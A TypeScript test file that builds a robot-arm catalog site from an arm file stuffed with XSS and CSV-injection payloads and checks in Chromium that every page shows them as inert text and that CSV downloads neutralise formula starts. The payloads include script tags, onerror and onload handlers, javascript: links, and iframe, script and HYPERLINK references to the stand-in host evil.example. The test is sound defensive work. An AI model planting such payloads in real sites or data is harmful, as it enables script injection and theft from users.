/**
 * Escaping (issue 5): an arm file whose free-text fields hold HTML, script, SVG, markdown and spreadsheet formulas is
 * built into a site of its own (a separate arms folder and output folder, under the suite's base path), and every
 * page that shows it is opened in Chromium. Nothing may execute, no element may be injected, no request may leave
 * the site, and each hostile string must appear as plain text. The JSON downloads must carry the strings unchanged
 * and the CSV downloads must neutralise formula starts (OWASP "CSV injection": a leading = + - @ becomes '=…).
 *
 * Two layers are checked separately: the Content-Security-Policy would stop an injected inline script from running,
 * so the DOM itself is also searched for anything the payloads would have created (event-handler attributes,
 * iframes, foreign scripts, javascript: links, images pointing elsewhere).
 */
import { spawnSync } from "node:child_process";
import { mkdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import { collectProblems, launchChromium, watchPage } from "./helpers/browser";
import { serveStatic, type StaticServer } from "./helpers/staticServer";
import { buildEnv } from "./helpers/buildEnv";

const root = new URL("../..", import.meta.url).pathname;
const basePath = inject("basePath");
const scratch = join(root, "test-results", `hostile-${process.pid}`);
const armsDir = join(scratch, "arms");
const outDir = join(scratch, "dist");

const HOSTILE_ID = "hostile-test-arm";
const EVIL = "http://evil.example";

/** Each payload tries to leave a mark in window.__hostile, open a dialog or fetch from another host. */
const TEXT = {
  maker: `Acme <script>window.__hostile="maker"</script> & Co`,
  model: `=HYPERLINK("${EVIL}/m") <img src=x onerror="window.__hostile='model'">`,
  description:
    `[click me](javascript:window.__hostile='md') **bold** <iframe src="${EVIL}/f"></iframe> ` +
    `<svg onload="window.__hostile='svg'"><circle r="9"/></svg> {{ 7*7 }} \${7*7}`,
  document: `"><script src="${EVIL}/s.js"></script><style>body{display:none}</style>`,
  revision: `'-alert(1)-'<b>`,
  notes: `</title></svg></script><svg><script>window.__hostile='notes'</script></svg>`,
  quoteRef: `@SUM(1+1) <a href="javascript:alert(1)">q</a>`,
  jointNote: `<img src="${EVIL}/j.png">`,
} as const;

/** Joint names (at most 40 characters), used in tables, chart labels and CSV downloads. */
const JOINT_NAMES = [
  `J1<svg onload=window.__hostile=1>`,
  `+J2<b onmouseover=alert(2)>`,
  `J3"><img src=x onerror=alert(3)>`,
  `-J4</text><text>`,
  `@J5 <!-- comment -->`,
  `=J6&amp;<u>six</u>`,
];

function hostileArm(): Record<string, unknown> {
  // The arm itself is a copy of a demo arm (valid kinematics); only its text changes.
  const base = JSON.parse(readFileSync(join(root, "arms", "corvell-tern-7.json"), "utf8")) as Record<string, any>;
  const rename = new Map<string, string>(
    base.joints.map((j: { name: string }, i: number) => [j.name, JOINT_NAMES[i]!]),
  );
  const renamed = (name: string) => rename.get(name) ?? name;
  return {
    ...base,
    $schema: undefined,
    id: HOSTILE_ID,
    maker: TEXT.maker,
    model: TEXT.model,
    description: TEXT.description,
    joints: base.joints.map((j: Record<string, unknown>, i: number) => ({
      ...j,
      name: JOINT_NAMES[i],
      ...(i === 0 ? { note: TEXT.jointNote } : {}),
    })),
    wrist: {
      momentNm: Object.fromEntries(Object.entries(base.wrist.momentNm).map(([k, v]) => [renamed(k), v])),
      inertiaKgM2: Object.fromEntries(Object.entries(base.wrist.inertiaKgM2).map(([k, v]) => [renamed(k), v])),
    },
    links: base.links.map((l: { after: string }) => ({ ...l, after: renamed(l.after) })),
    source: { document: TEXT.document, revision: TEXT.revision, date: "2024-01-01", notes: TEXT.notes },
    commercial: { ...base.commercial, quoteRef: TEXT.quoteRef },
  };
}

let server: StaticServer;
let browser: Browser;

beforeAll(async () => {
  rmSync(scratch, { recursive: true, force: true });
  mkdirSync(armsDir, { recursive: true });
  writeFileSync(join(armsDir, `${HOSTILE_ID}.json`), JSON.stringify(hostileArm(), null, 2));
  // A second, ordinary arm so the side-by-side page has two arms to show.
  // Without its "$schema" path, which is relative to arms/.
  const other = JSON.parse(readFileSync(join(root, "arms", "corvell-tern-25.json"), "utf8")) as Record<string, unknown>;
  delete other.$schema;
  writeFileSync(join(armsDir, "corvell-tern-25.json"), JSON.stringify(other, null, 2));
  const env = buildEnv({ ARMDEX_ARMS_DIR: armsDir, ARMDEX_OUT_DIR: outDir });
  const result = spawnSync("npm", ["run", "build"], { cwd: root, env, encoding: "utf8", maxBuffer: 64 * 1024 * 1024 });
  if (result.status !== 0)
    throw new Error(`build of the hostile catalog failed:\n${`${result.stdout}\n${result.stderr}`.slice(-4000)}`);
  server = await serveStatic(outDir, basePath);
  browser = await launchChromium();
}, 600_000);

afterAll(async () => {
  await browser?.close();
  await server?.close();
  rmSync(scratch, { recursive: true, force: true });
});

declare global {
  interface Window {
    __hostile?: unknown;
  }
}

/** What the payloads would have created, had any of them become markup. */
async function injectedElements(page: Page, origin: string): Promise<string[]> {
  return page.evaluate(
    ([origin, evil]) => {
      const found: string[] = [];
      for (const el of Array.from(document.querySelectorAll("*"))) {
        for (const attr of Array.from(el.attributes)) {
          if (/^on/i.test(attr.name)) found.push(`<${el.tagName.toLowerCase()} ${attr.name}>`);
          // Text in an aria-label or data attribute is inert; a URL attribute pointing at a payload is not.
          const isUrl = /^(href|src|srcset|xlink:href|action|formaction|srcdoc|data|poster)$/i.test(attr.name);
          if (isUrl && (/^\s*javascript:/i.test(attr.value) || attr.value.includes(evil!))) {
            found.push(`<${el.tagName.toLowerCase()} ${attr.name}="${attr.value}">`);
          }
        }
      }
      for (const s of Array.from(document.querySelectorAll("script"))) {
        if (!s.src || !s.src.startsWith(`${origin}/`))
          found.push(`script ${s.src || "(inline)"}: ${s.textContent?.slice(0, 60) ?? ""}`);
      }
      // The site has no iframes and no <style> elements (its CSP forbids inline style); img[src=x] is a payload's.
      for (const el of Array.from(document.querySelectorAll("iframe, style, img[src='x']")))
        found.push(`<${el.tagName.toLowerCase()}> injected`);
      return found;
    },
    [origin, EVIL] as const,
  );
}

async function visit(
  path: string,
  waitFor?: (page: Page) => Promise<void>,
): Promise<{
  text: string;
  svgText: string;
  problems: string[];
  injected: string[];
  dialogs: string[];
  mark: unknown;
}> {
  const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
  const page = await context.newPage();
  const problems = await watchPage(page, server.origin);
  const dialogs: string[] = [];
  page.on("dialog", (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  await page.goto(`${server.siteUrl}${path}`, { waitUntil: "networkidle" });
  if (waitFor) await waitFor(page);
  // Hover and click nothing in particular: a payload on mouseover would fire here.
  await page.mouse.move(300, 300);
  await page.mouse.move(600, 500);
  const text = await page.evaluate(() => document.body.innerText);
  const svgText = await page.evaluate(() =>
    Array.from(document.querySelectorAll("svg text, svg title, svg desc"))
      .map((t) => t.textContent ?? "")
      .join("\n"),
  );
  const injected = await injectedElements(page, server.origin);
  const mark = await page.evaluate(() => window.__hostile);
  const all = await collectProblems(page, problems);
  await context.close();
  return { text, svgText, problems: all, injected, dialogs, mark };
}

function expectNothingRan(result: Awaited<ReturnType<typeof visit>>): void {
  expect(result.mark, "a payload set window.__hostile").toBeUndefined();
  expect(result.dialogs, "a payload opened a dialog").toEqual([]);
  expect(result.injected, "elements or attributes created by a payload").toEqual([]);
  expect(result.problems, "console errors, CSP violations or requests to other hosts").toEqual([]);
}

describe("an arm file full of markup is shown as text everywhere", () => {
  it("the detector itself finds the payloads when they do become markup (a page made for the purpose, no CSP)", async () => {
    const page = await browser.newPage();
    await page.setContent(`<main><p>${TEXT.model}</p><p>${TEXT.description}</p><p>${JOINT_NAMES[0]}</p></main>`);
    await page.waitForTimeout(200);
    const found = await injectedElements(page, server.origin);
    expect(found.some((f) => f.includes("onerror"))).toBe(true);
    expect(found.some((f) => f.includes("onload"))).toBe(true);
    expect(found.some((f) => f.startsWith("<iframe"))).toBe(true);
    // One of the payloads on this page ran: the model's img onerror, the description's svg onload or the joint name's.
    expect(["model", "svg", 1]).toContain(await page.evaluate(() => window.__hostile));
    await page.close();
  });

  it("catalog: maker and model appear literally, nothing runs", async () => {
    const r = await visit("");
    expectNothingRan(r);
    expect(r.text).toContain(TEXT.maker);
    expect(r.text).toContain(TEXT.model);
  });

  it("arm sheet: every text field and joint name appears literally, in the page and in the chart labels", async () => {
    const r = await visit(`arms/${HOSTILE_ID}/`);
    expectNothingRan(r);
    for (const value of [TEXT.maker, TEXT.model, TEXT.document, TEXT.revision, TEXT.notes, TEXT.jointNote])
      expect(r.text).toContain(value);
    // The description may be wrapped; its first and last payloads must both show as text.
    expect(r.text).toContain("[click me](javascript:window.__hostile='md')");
    expect(r.text).toContain("${7*7}");
    for (const name of JOINT_NAMES) expect(r.text, `joint name ${name} in the page text`).toContain(name);
    // Chart labels name joints (joint-rate charts, the cycle's limiting joint): at least one hostile name is drawn
    // in an SVG text node, verbatim.
    expect(
      JOINT_NAMES.some((name) => r.svgText.includes(name)),
      "a hostile joint name in an SVG label",
    ).toBe(true);
  });

  it("side by side: the client-built page shows the names as text, nothing runs", async () => {
    const r = await visit(`compare/?arms=${HOSTILE_ID},corvell-tern-25`, async (page) => {
      await page.waitForFunction(() => document.body.innerText.includes("Acme"), undefined, { timeout: 20_000 });
    });
    expectNothingRan(r);
    expect(r.text).toContain(TEXT.maker);
  });

  it("methods page: unaffected", async () => {
    expectNothingRan(await visit("methods/"));
  });

  it("downloads: JSON carries the strings unchanged; CSV neutralises formula starts", async () => {
    const spec = JSON.parse(readFileSync(join(outDir, "data", "arms", HOSTILE_ID, "spec.json"), "utf8")) as Record<
      string,
      any
    >;
    expect(spec.maker ?? spec.spec?.maker).toBe(TEXT.maker);
    const analysis = readFileSync(join(outDir, "data", "arms", `${HOSTILE_ID}.json`), "utf8");
    expect(() => JSON.parse(analysis)).not.toThrow();
    const catalog = JSON.parse(readFileSync(join(outDir, "data", "catalog.json"), "utf8")) as {
      arms: { id: string; maker?: string; model?: string }[];
    };
    const row = catalog.arms.find((a) => a.id === HOSTILE_ID);
    expect(row?.model).toBe(TEXT.model);
    // Joint names starting with + - = @ : in joints.csv each must be written with a leading single quote
    // (RFC 4180 quoting around it where the field needs it).
    const csv = readFileSync(join(outDir, "data", "arms", HOSTILE_ID, "joints.csv"), "utf8");
    const fields = csv
      .split(/\r\n/)
      .flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)/g) ?? [])
      .map((f) => (f.startsWith('"') ? f.slice(1, -1).replace(/""/g, '"') : f));
    for (const name of JOINT_NAMES) {
      if (/^[=+\-@]/.test(name)) {
        expect(fields, `joint ${name} escaped in joints.csv`).toContain(`'${name}`);
        expect(fields).not.toContain(name);
      } else {
        expect(fields).toContain(name);
      }
    }
  });
});
